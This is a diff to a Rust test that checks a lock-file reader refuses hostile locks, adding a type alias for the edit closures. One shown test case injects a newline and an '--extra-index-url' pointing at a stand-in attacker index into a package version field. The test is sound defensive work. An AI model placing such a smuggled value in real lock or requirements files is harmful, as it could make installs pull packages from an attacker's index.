@@ -239,6 +239,9 @@ fn lock_check_exits_4_when_the_lock_is_out_of_date() {
     assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
 }
 
+/// An edit that makes a good lock hostile.
+type Edit = dyn Fn(&mut serde_json::Value);
+
 /// A lock is input like a manifest: every value goes through its type's checks when
 /// read, and a refused one is named with its line and column, escaped. `plan --lock`
 /// and `export` read it through the same reader. A lock that records the manifest's
@@ -252,7 +255,7 @@ fn hostile_locks_are_refused_where_they_are_read() {
     let (manifest, _, lock) = locked(dir.path());
     let good: serde_json::Value =
         serde_json::from_str(&std::fs::read_to_string(&lock).unwrap()).unwrap();
-    let cases: [(&str, &dyn Fn(&mut serde_json::Value)); 9] = [
+    let cases: [(&str, &Edit); 9] = [
         ("version", &|lock| {
             lock["packages"][0]["version"] =
                 "2.9.1\n--extra-index-url https://evil.invalid/simple".into()
